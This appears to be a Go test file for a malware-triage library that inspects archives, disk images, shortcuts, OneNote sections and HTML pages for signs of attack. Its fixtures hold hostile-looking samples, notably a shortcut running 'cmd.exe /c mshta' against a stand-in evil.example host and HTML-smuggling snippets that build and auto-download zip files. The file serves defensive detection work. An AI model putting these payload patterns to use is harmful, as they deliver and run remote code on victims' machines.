package artefact

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"hash/crc32"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The hashes of what 7-Zip and xz packed into testdata: a text and x86 calls.
const (
	textHash  = "6eb4e81ae91d4c533d5849b6301a0a04551be9e66f8089ceb15f51d875c4642b"
	callsHash = "fcadb00c63fa8d1b2415f2e09bd4c4ae43e94aa6ae29d015e447c95437ac039b"
)

// testdata returns a file that a program other than ours has packed.
func testdata(tb testing.TB, name string) []byte {
	tb.Helper()
	content, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		tb.Fatal(err)
	}
	return content
}

// What 7-Zip and xz packed is unpacked bit for bit.
func TestInspect_readsWhatOthersPacked(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"plain.7z": textHash, "locked.7z": textHash, "a.xz": textHash, "a.lzma": textHash, "lz.zip": textHash, "x86.7z": callsHash,
	} {
		r := Inspect(name, testdata(t, name), Options{})
		found := slices.ContainsFunc(r.Children, func(c Report) bool { return c.SHA256 == want })
		if !found || len(r.Warnings) > 0 || (name == "locked.7z") != (r.Password == "infected") {
			t.Errorf("%s: no member %s in %+v", name, want, r)
		}
	}
}

// rar5 is a RAR archive with one stored file, made from the description of the format.
func rar5(name, content string) []byte {
	block := func(body []byte) []byte {
		sized := append(binary.AppendUvarint(nil, uint64(len(body))), body...)
		return append(binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(sized)), sized...)
	}
	file := []byte{2, 2} // a file, with data after it
	file = binary.AppendUvarint(file, uint64(len(content)))
	file = append(file, 4) // with a checksum
	file = binary.AppendUvarint(file, uint64(len(content)))
	file = append(file, 0)
	file = binary.LittleEndian.AppendUint32(file, crc32.ChecksumIEEE([]byte(content)))
	file = append(file, 0, 1, byte(len(name)))
	file = append(file, name...)
	return slices.Concat([]byte("Rar!\x1a\x07\x01\x00"), block([]byte{1, 0, 0}), block(file), []byte(content), block([]byte{5, 0, 0}))
}

// isoImage is a disk image with one file in its root, by the names of Joliet.
func isoImage(name, content string) []byte {
	b := make([]byte, 22*isoSector)
	entry := func(id string, extent, size uint32, flags byte) []byte {
		e := make([]byte, 33+len(id)+len(id)%2)
		e[0], e[25], e[32] = byte(len(e)), flags, byte(len(id))
		binary.LittleEndian.PutUint32(e[2:], extent)
		binary.LittleEndian.PutUint32(e[10:], size)
		copy(e[33:], id)
		return e
	}
	var wide strings.Builder
	for _, c := range name + ";1" {
		wide.WriteString("\x00" + string(c))
	}
	copy(b[16*isoSector:], "\x01CD001\x01")
	copy(b[16*isoSector+156:], entry("\x00", 20, isoSector, 2))
	copy(b[17*isoSector:], "\x02CD001\x01")
	copy(b[17*isoSector+88:], "%/E")
	copy(b[17*isoSector+156:], entry("\x00", 20, isoSector, 2))
	copy(b[18*isoSector:], "\xffCD001\x01")
	copy(b[20*isoSector:], slices.Concat(entry("\x00", 20, isoSector, 2), entry("\x01", 20, isoSector, 2), entry(wide.String(), 21, uint32(len(content)), 0)))
	copy(b[21*isoSector:], content)
	return b
}

// shortcutTo is a Windows shortcut with arguments.
func shortcutTo(path, arguments string) []byte {
	b := bytes.Repeat([]byte{0}, 76)
	copy(b, "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	binary.LittleEndian.PutUint32(b[20:], linkHasRelative|linkHasArguments|linkUnicode)
	for _, s := range []string{path, arguments} {
		b = binary.LittleEndian.AppendUint16(b, uint16(len(s)))
		for i := range len(s) {
			b = append(b, s[i], 0)
		}
	}
	return b
}

// noteWith is a OneNote section with a file in it.
func noteWith(content string) []byte {
	b := []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3 text \xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac")
	b = binary.LittleEndian.AppendUint64(b, uint64(len(content)))
	return append(append(b, make([]byte, 12)...), content...)
}

// Disk images, RAR, shortcuts, notes and Internet shortcuts tell what they hold and start.
func TestInspect_readsContainers(t *testing.T) {
	t.Parallel()
	const script = "<job><script>x('https://in.evil.example/')</script></job>"
	for name, content := range map[string][]byte{"a.rar": rar5("run.wsf", script), "a.iso": isoImage("run.wsf", script)} {
		r := Inspect(name, content, Options{})
		checkReport(t, name, &r)
		if got := member(t, &r, "run.wsf"); got.Kind != KindScript || !hasLink(got, "https://in.evil.example/") || got.Size != int64(len(script)) {
			t.Errorf("%s: %+v", name, got)
		}
	}
	if r := Inspect("a.iso", isoImage("a", "b"), Options{}); r.Kind != KindDisk || !r.Has(SignDisk) {
		t.Errorf("the image is %s with %v", r.Kind, r.Signs)
	}
	l := Inspect("a.lnk", shortcutTo(`..\cmd.exe`, "/c  mshta https://l.evil.example/x"), Options{})
	if l.Kind != KindShortcut || !hasLink(&l, "https://l.evil.example/x") || len(l.Signs) == 0 || l.Signs[0].Detail != `..\cmd.exe /c mshta https://l.evil.example/x` {
		t.Errorf("the shortcut: %+v", l)
	}
	n := Inspect("a.one", noteWith("MZ program"), Options{})
	if n.Kind != KindNote || len(n.Children) != 1 || n.Children[0].Kind != KindExecutable || !n.Has(SignEmbedded) || !n.Has(SignProgram) {
		t.Errorf("the notes: %+v", n)
	}
	u := Inspect("a.url", []byte("[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.js\r\n"), Options{})
	if u.Kind != KindShortcut || !hasLink(&u, "file://198.51.100.7/share/a.js") {
		t.Errorf("the Internet shortcut: %+v", u)
	}
}

// Pages that build a file and save it are told from pages that do not.
func TestInspect_findsSmuggling(t *testing.T) {
	t.Parallel()
	archive := base64.StdEncoding.EncodeToString(zipped(t, "a.js", strings.Repeat("alert(1)", 20)))
	for name, c := range map[string]struct {
		page string
		want bool
	}{
		"a blob that is saved": {`<script>var b=new Blob([x]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.zip';a.click()</script>`, true},
		"an archive in a text": {`<script>var x="` + archive + `";go(x)</script>`, true},
		"a link that is one":   {`<a download href="data:application/zip;base64,` + archive + `">x</a>`, true},
		"an image in it":       {`<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(pngOf(t, qrImage(t, "x", 60))) + `">`, false},
		"a harmless script":    {`<script>document.title="x"</script>`, false},
	} {
		r := Inspect("a.html", []byte("<html><body>"+c.page), Options{})
		if r.Kind != KindHTML || r.Has(SignSmuggling) != c.want {
			t.Errorf("%s: %s, signs %v", name, r.Kind, r.Signs)
		}
	}
	r := Inspect("a.html", []byte(`<html><script>var x="`+archive+`"</script>`), Options{})
	found := false
	for one := range r.All() {
		found = found || one.Name == "a.js"
	}
	if !found {
		t.Errorf("what the page holds was not looked into: %+v", r.Children)
	}
	svg := Inspect("a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>location='https://s.evil.example/'</script></svg>`), Options{})
	if svg.Kind != KindImage || !svg.Has(SignScript) || !hasLink(&svg, "https://s.evil.example/") {
		t.Errorf("the drawing: %+v", svg)
	}
}

// What was not read completely is not complete.
func TestComplete_meansThatAllWasRead(t *testing.T) {
	t.Parallel()
	whole := Inspect("a.zip", zipped(t, "a.txt", "hello"), Options{})
	cut := Inspect("a.zip", zipped(t, "a.txt", strings.Repeat("hello", 1000)), Options{Bytes: 1000})
	strange := Inspect("a.bin", bytes.Repeat([]byte{1, 2, 0xff, 0}, 10), Options{})
	if !whole.Complete() || cut.Complete() || strange.Complete() || strange.Macros != MacrosUnknown {
		t.Errorf("whole %v, cut %v, strange %v", whole.Warnings, cut.Warnings, strange)
	}
}
